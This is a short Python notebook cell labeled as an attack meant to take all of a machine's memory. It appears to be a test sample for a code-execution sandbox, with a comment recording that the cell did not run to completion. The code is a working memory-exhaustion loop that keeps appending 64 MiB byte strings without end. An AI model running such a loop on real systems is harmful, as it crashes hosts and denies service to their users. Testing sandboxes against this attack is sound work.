# attack: take all memory of the machine in one process
# told: Code cell 3 did not run to its end
# %%
hoard = []
while True:
    hoard.append(b"x" * 2**26)
